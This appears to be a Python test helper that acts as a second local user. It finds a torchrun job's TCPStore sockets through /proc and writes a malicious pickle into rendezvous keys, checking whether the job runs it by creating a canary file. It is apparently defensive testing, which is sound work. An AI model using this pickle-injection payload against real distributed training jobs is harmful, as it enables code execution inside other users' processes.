"""Another user of this machine, who finds the stores of a job and writes to them."""

from __future__ import annotations

import contextlib
import ipaddress
import os
import subprocess
import sys
import textwrap
from pathlib import Path

ATTACK = """\
    import base64, os, pickle, sys
    from torch.distributed import TCPStore

    if os.getuid() == 0:
        os.setgroups([]), os.setgid(65534), os.setuid(65534)

    class Payload:
        def __reduce__(self):
            return os.system, (f"touch '{sys.argv[1]}'",)

    bomb = base64.b64encode(pickle.dumps((Payload(), 0)))
    names = ["torch.rendezvous.tried.0", "2/torchrun/torchelastic/role_info/0",
             "2/torchrun/torchelastic/assigned_ranks/0", "2/port", "store_based_barrier_key:0"]
    for place in sys.argv[2:]:
        host, _, port = place.rpartition(":")
        store = TCPStore(host, int(port), is_master=False)
        for name in names:
            store.set(name, bomb)
        store.get(names[0])
        print("wrote to", place, "as", os.getuid())
"""


def listeners(pids):
    """``address:port`` of every TCP socket on which the processes listen."""
    inodes = set()
    for pid in pids:
        for entry in Path(f"/proc/{pid}/fd").iterdir():
            if (target := os.readlink(entry)).startswith("socket:["):  # noqa: PTH115 - no path
                inodes.add(target[8:-1])
    found = set()
    for table in ("tcp", "tcp6"):
        for line in Path(f"/proc/{pids[0]}/net/{table}").read_text().splitlines()[1:]:
            words = line.split()
            if words[3] == "0A" and words[9] in inodes:
                found.add(_readable(words[1]))
    return found


def _readable(local):
    """The kernel writes an address as words of the machine's order."""
    address, port = local.split(":")
    packed = b"".join(bytes.fromhex(address[at : at + 8])[::-1] for at in range(0, len(address), 8))
    return f"{ipaddress.ip_address(packed)}:{int(port, 16)}"


def processes(run_folder):
    """Those of a run, on all nodes of this machine."""
    mark = f"DEPLOYKIT_RUN_DIR={run_folder}".encode()
    found = []
    for path in Path("/proc").glob("[0-9]*"):
        with contextlib.suppress(OSError):
            if mark in (path / "environ").read_bytes().split(b"\0"):
                found.append(int(path.name))
    return found


def stores(run_folder):
    """Where torchrun listens; a port of gloo's need never answer a store's words."""
    pids = processes(run_folder)
    return listeners(
        [pid for pid in pids if b"--rdzv-id" in Path(f"/proc/{pid}/cmdline").read_bytes()]
    )


def attack(canary, places):
    """The intruder's output after trying to make a reader create the file `canary`."""
    argv = [sys.executable, "-c", textwrap.dedent(ATTACK), str(canary), *sorted(places)]
    done = subprocess.run(argv, capture_output=True, text=True)  # noqa: PLW1510 - what it prints counts
    assert done.returncode == 0, done.stderr
    return done.stdout
